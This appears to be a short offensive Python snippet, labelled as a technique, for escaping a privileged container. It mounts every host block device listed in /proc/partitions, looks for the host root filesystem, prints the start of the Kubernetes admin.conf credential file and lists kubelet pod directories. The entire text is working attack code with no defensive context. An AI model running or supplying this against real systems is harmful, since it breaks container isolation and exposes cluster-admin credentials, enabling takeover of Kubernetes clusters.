# technique: privileged-container disk mount: find the host block device from /proc/partitions and mount it to read host files
import os, subprocess
devs = [l.split()[-1] for l in open("/proc/partitions").read().splitlines()[2:] if l.split()]
for d in devs:
    if d[-1].isdigit() or d.startswith("dm-"):
        mnt = "/mnt/h_" + d
        os.makedirs(mnt, exist_ok=True)
        if subprocess.run(["mount", "/dev/" + d, mnt], stderr=subprocess.DEVNULL).returncode == 0:
            if os.path.exists(mnt + "/etc/kubernetes"):
                print("host root on", d)
                print(open(mnt + "/etc/kubernetes/admin.conf").read()[:400] if os.path.exists(mnt + "/etc/kubernetes/admin.conf") else "")
                for k in os.listdir(mnt + "/var/lib/kubelet/pods")[:20]:
                    print(k)
